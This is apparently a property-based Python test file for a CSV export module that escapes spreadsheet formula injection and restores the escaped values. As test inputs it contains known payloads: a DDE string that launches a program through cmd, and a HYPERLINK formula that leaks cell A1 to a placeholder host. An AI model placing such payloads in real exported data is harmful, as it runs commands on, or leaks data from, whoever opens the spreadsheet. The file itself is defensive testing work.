"""Formula neutralising: known payloads, and properties over any text (hypothesis)."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from comptoir.core.csv_safety import (
    FORMULA_TRIGGERS,
    NEEDS_CHECK,
    cell_is_dangerous,
    cell_is_formula_safe,
    cell_restore,
    cell_safe,
)

# Texts that lean on what matters: the trigger characters, apostrophes, digits, signs.
risky_text = st.text(
    alphabet=st.sampled_from("=+-@\t\r'0123456789.,aZ |!()\"é\n"), max_size=12
) | st.text(max_size=40)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ('=HYPERLINK("http://x?leak="&A1,"Click")', '\'=HYPERLINK("http://x?leak="&A1,"Click")'),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("+", "'+"),
        ("'=1", "''=1"),
        ("''=1", "'''=1"),
    ],
)
def test_formula_payloads_are_escaped(value, expected):
    assert cell_safe(value) == expected
    assert cell_restore(expected) == value


@pytest.mark.parametrize(
    "value",
    [
        "",
        "Hélène",
        "foo@example.org",
        "1+2",
        "1=3",
        "+33612345678",  # E.164 phones reach the mailing tools intact
        "-12.50",
        "-1,2",
        "'quoted'",
        "'",
        "it's",
        "O'Brien",
        "Test | Foo",
    ],
)
def test_harmless_values_are_kept(value):
    assert cell_safe(value) == value
    assert cell_restore(value) == value
    assert not cell_is_dangerous(value)


@given(risky_text)
@example("=cmd|' /C calc'!A0")
@example("'+x")
def test_every_escaped_cell_is_formula_safe(value):
    escaped = cell_safe(value)
    assert cell_is_formula_safe(escaped)
    if escaped and escaped[0] in FORMULA_TRIGGERS:
        # Only a plain signed number may start like a formula.
        assert escaped == value and escaped.lstrip("+-").replace(".", "").replace(",", "").isdigit()


@given(risky_text)
def test_escaping_is_undone_exactly(value):
    assert cell_restore(cell_safe(value)) == value


@given(risky_text)
def test_escaping_changes_only_dangerous_cells_and_only_by_one_apostrophe(value):
    escaped = cell_safe(value)
    if cell_is_dangerous(value):
        assert escaped == "'" + value
    else:
        assert escaped == value


@given(risky_text)
def test_escaping_twice_stays_reversible(value):
    once = cell_safe(value)
    assert cell_restore(cell_restore(cell_safe(once))) == value


@given(risky_text)
def test_the_quick_first_character_test_never_skips_a_cell_that_changes(value):
    if value and value[0] not in NEEDS_CHECK:
        assert cell_safe(value) == value


@pytest.mark.parametrize("value", ["'0", "'+33 6", "''12", "'7210448301122"])
def test_an_apostrophe_before_a_number_survives_the_importers_guard_removal(value):
    """The importer drops an apostrophe before a number (a spreadsheet's guard, as Shopify
    writes its ids): a value that really starts so is escaped once more on the way out."""
    from comptoir.transfer.formats.cells import text

    assert cell_safe(value) == "'" + value
    assert text(cell_safe(value)) == value
    assert text(value) == value[1:]  # the same cell from another platform: a guarded number
